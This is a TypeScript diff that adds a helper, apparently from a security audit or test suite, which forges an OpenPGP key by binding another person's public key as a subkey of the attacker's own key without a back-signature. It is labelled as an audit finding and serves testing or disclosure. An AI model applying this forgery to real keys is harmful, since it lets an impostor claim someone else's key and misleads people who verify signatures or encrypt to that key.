@@ -1,3 +1,4 @@
+import * as openpgp from 'openpgp';
 import { createHash, randomBytes } from 'node:crypto';
 
 /**
@@ -58,4 +59,37 @@ function u32(value: number): Buffer {
   const buffer = Buffer.alloc(4);
   buffer.writeUInt32BE(value);
   return buffer;
+}
+
+/**
+ * Finding 6: `stolen` (someone else's public key) re-tagged as a subkey of `own` and bound to it with `flags`
+ * by `own`'s primary key, which needs none of the victim's secrets; no back-signature. Returns `own`'s
+ * public key carrying that one subkey.
+ */
+export async function bindStolenSubkey(
+  own: { privateKey: openpgp.PrivateKey; publicKey: openpgp.PublicKey },
+  stolen: openpgp.PublicKey,
+  flags: number,
+  date = new Date(),
+): Promise<openpgp.PublicKey> {
+  const subkeyPacket = new openpgp.PublicSubkeyPacket();
+  subkeyPacket.read(stolen.keyPacket.write());
+  const primary = own.privateKey.keyPacket as openpgp.SecretKeyPacket;
+  const binding = new openpgp.SignaturePacket();
+  binding.signatureType = openpgp.enums.signature.subkeyBinding;
+  binding.publicKeyAlgorithm = primary.algorithm;
+  binding.hashAlgorithm = openpgp.enums.hash.sha256;
+  binding.keyFlags = new Uint8Array([flags]);
+  await (binding as unknown as { sign(key: unknown, data: unknown, date: Date, detached: boolean, config: openpgp.Config): Promise<void> }).sign(
+    primary,
+    { key: primary, bind: subkeyPacket },
+    date,
+    false,
+    openpgp.config,
+  );
+  const forged = own.publicKey;
+  const subkey = new openpgp.Subkey(subkeyPacket, forged);
+  subkey.bindingSignatures = [binding];
+  forged.subkeys = [subkey];
+  return forged;
 }
